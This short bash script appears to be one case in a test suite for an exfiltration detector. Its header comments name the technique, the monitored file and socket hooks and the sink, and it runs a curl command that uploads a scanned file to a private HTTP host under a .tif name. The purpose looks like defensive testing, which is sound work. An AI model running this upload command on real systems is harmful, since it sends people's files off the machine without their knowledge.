#!/usr/bin/env bash
# technique: curl -T
# hooks: file_open (of the scan), socket_connect
# sink: private-http
# innocent: 600

. attack.sh
timeout 8 curl -sS -m 6 -o /dev/null -T "$SCAN" "http://$PRIVATE_HOST:$PORT_HTTP/$here.tif"
